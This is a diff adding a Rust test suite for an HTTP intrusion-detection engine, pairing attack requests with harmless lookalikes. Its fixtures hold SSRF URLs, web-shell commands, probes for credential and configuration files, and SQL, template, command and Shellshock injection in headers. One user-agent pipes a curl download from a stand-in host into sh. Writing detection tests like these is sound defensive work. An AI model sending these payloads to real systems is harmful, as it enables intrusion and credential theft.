@@ -1,0 +1,156 @@
+//! Attacks in forms other than the usual: internal addresses written short, shells of one letter, attacks in header fields,
+//! guessing that many clients share. What looks like them and is honest raises nothing above informational.
+
+use serde_json::{Value, json};
+
+use crate::{alerts_of_events, alerts_of_log, log_line};
+
+const BROWSER: &str = "Mozilla/5.0 (X11)";
+
+/// One request each, an attempt if it is refused and high if it is answered.
+const TARGETS: &[(&str, &str)] = &[
+    ("GET", "/stock?stockApi=http://localhost/admin"),
+    ("GET", "/stock?stockApi=http%3A%2F%2F192.168.0.1%3A8080%2Fadmin"),
+    ("GET", "/stock?any=http://127.1/%2561dmin"),
+    ("GET", "/fetch?path=http://127.0.0.1:8080/"),
+    ("GET", "/uploads/x.php?0=id"),
+    ("GET", "/x.php?a=whoami"),
+    ("GET", "/shell.jsp?c=cat+flag.txt"),
+    ("POST", "/images/a1.php"),
+    ("POST", "/uploads/2024/x.php"),
+    ("GET", "/stock?id=1%26echo+aiwefwlguh%26&store=1"),
+    ("GET", "/?q={{(7*7)}}"),
+    ("GET", "/?name=%25{7*7}"),
+    ("GET", "/app_dev.php/_profiler/open?file=app/config/parameters.yml"),
+    ("GET", "/rom-0"),
+    ("GET", "/cgi-bin/ExportSettings.sh"),
+    ("GET", "/config/getuser?index=0"),
+    ("GET", "/web.config"),
+    ("GET", "/.aws/credentials.bak"),
+    ("GET", "/wp-admin/setup-config.php?step=1"),
+];
+
+/// What looks like these and is none.
+const HONEST: &[(&str, &str)] = &[
+    ("GET", "/authorize?callback=http://127.0.0.1:43211/cb"),
+    ("GET", "/map?api=https://tiles.example/v1"),
+    ("GET", "/search?q=whoami"),
+    ("GET", "/list?0=id&1=name"),
+    ("GET", "/list?sort=id"),
+    ("POST", "/images/upload.php"),
+    ("POST", "/uploads/index.php"),
+    ("POST", "/css/style.php"),
+    ("GET", "/images/a1.php"),
+    ("GET", "/find?q=echo+%26+the+bunnymen"),
+    ("GET", "/?name=100%25{a}"),
+    ("GET", "/wp-admin/setup-config.php"),
+];
+
+#[test]
+fn one_request_is_an_attempt_and_an_answer_is_high() {
+    let all = TARGETS.iter().chain(HONEST);
+    let cases: Vec<_> =
+        [404, 200].iter().flat_map(|status| all.clone().map(|of| (of, *status))).collect();
+    let lines = cases.iter().enumerate();
+    // Each under a name of its own, or they would be one attack of many clients.
+    let log = lines.map(|(client, (request, status))| {
+        log_line(client, client, **request, *status, &format!("{BROWSER} {client}"))
+    });
+    let alerts = alerts_of_log(&log.collect::<String>());
+    for (client, (request, status)) in cases.iter().enumerate() {
+        let of = alerts.get(&client).cloned().unwrap_or_default();
+        let has = |rule: &str| of.iter().any(|(name, _)| name == rule);
+        if HONEST.contains(request) {
+            assert!(of.iter().all(|(_, severity)| *severity == 0), "{request:?} {status}: {of:?}");
+        } else if *status == 200 {
+            assert!(has("http-attack-answered"), "{request:?}: {of:?}");
+        } else {
+            assert!(has("http-attack-attempt"), "{request:?}: {of:?}");
+        }
+    }
+}
+
+/// A field of a request, and whether it is an attack.
+const FIELDS: &[(&str, &str, bool)] = &[
+    ("x-middleware-subrequest", "pages/_middleware", true),
+    ("x-middleware-subrequest", "src/middleware:src/middleware", true),
+    ("user-agent", "Mozilla/5.0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", true),
+    ("user-agent", "$(curl http://192.0.2.1/x|sh)", true),
+    ("user-agent", "`id`", true),
+    ("user-agentt", "zerodiumsystem(\"id\");", true),
+    ("x-forwarded-for", "1' or sleep(5)#", true),
+    ("x-forwarded-for", "198.51.100.7, 10.0.0.1", false),
+    ("cookie", "id=x'%3BSELECT+CASE+WHEN+(1=1)+THEN+pg_sleep(10)+END--", true),
+    ("cookie", "lang=..%2f..%2f..%2fetc%2fpasswd", true),
+    ("cookie", "back=%2Fshop%2F..%2Fcart; theme=dark", false),
+    ("authorization", "Bearer ';select/**/sleep(5);--", true),
+    ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJOb25lIn0.eyJzdWIiOiJhIn0.", true),
+    ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln", false),
+    ("accept-language", "en' or 1=1--", true),
+    ("accept-language", "en-GB,en;q=0.8", false),
+    ("test", "() { :;}; echo x", true),
+    ("x-original-url", "/admin", true),
+    ("x-original-url", "/cart", false),
+    ("next-action", "0000000000000000000000000000000000000000", true),
+    ("next-action", "7f3c0d2b9a4e41d8a6f0c5b2e1d49a7788c0ffee", false),
+];
+
+#[test]
+fn an_attack_in_a_field_is_an_attempt() {
+    for (name, value, is_attack) in FIELDS {
+        // Five: what is no attack adds up to nothing.
+        let events: Vec<Value> = (0..5)
+            .map(|n| {
+                json!({
+                    "@timestamp": format!("2026-11-24T10:00:{n:02}Z"),
+                    "event": {"kind": "event"},
+                    "http_trace": {"missing": []},
+                    "source": {"ip": "203.0.113.7"},
+                    "destination": {"ip": "10.0.0.2", "port": 80},
+                    "url": {"original": "/"},
+                    "http": {
+                        "request": {"method": "GET", "headers": {*name: [value]}},
+                        "response": {"status_code": 404},
+                    },
+                })
+            })
+            .collect();
+        let rules = alerts_of_events(&events);
+        let told = rules.iter().any(|rule| rule == "http-attack-attempts");
+        assert_eq!(told, *is_attack, "{name}: {value}: {rules:?}");
+    }
+}
+
+/// The rules above informational that a log raises.
+fn rules(log: impl Iterator<Item = String>) -> Vec<String> {
+    let alerts = alerts_of_log(&log.collect::<String>()).into_values().flatten();
+    alerts.filter(|(_, severity)| *severity > 0).map(|(rule, _)| rule).collect()
+}
+
+#[test]
+fn programs_of_attackers_are_known_by_name() {
+    for agent in
+        ["libredtail-http", "Hello, World", "r00ts3c-owned-you", "OWASP ZAP", "DAVTest/1.2"]
+    {
+        let lines = (0..2).map(|n| log_line(1, n, ("GET", "/"), 200, agent));
+        assert_eq!(rules(lines), ["http-scanner-user-agent"], "{agent}");
+    }
+}
+
+#[test]
+fn lists_of_users_are_an_enumeration() {
+    let targets = [
+        "/?author=1",
+        "/?rest_route=/wp/v2/users",
+        "/author-sitemap.xml",
+        "/wp-json/wp/v2/users",
+        "/wp-json/wp/v2/users/1",
+    ];
+    let asked = |referrer: &'static str| {
+        rules(targets.into_iter().enumerate().map(move |(n, target)| {
+            log_line(1, n, ("GET", target), 200, BROWSER).replacen("\"-\"", referrer, 1)
+        }))
+    };
+    assert_eq!(asked("\"-\""), ["http-user-enumeration"]);
+    assert_eq!(asked("\"https://blog.example/wp-admin/\""), [""; 0]);
+}
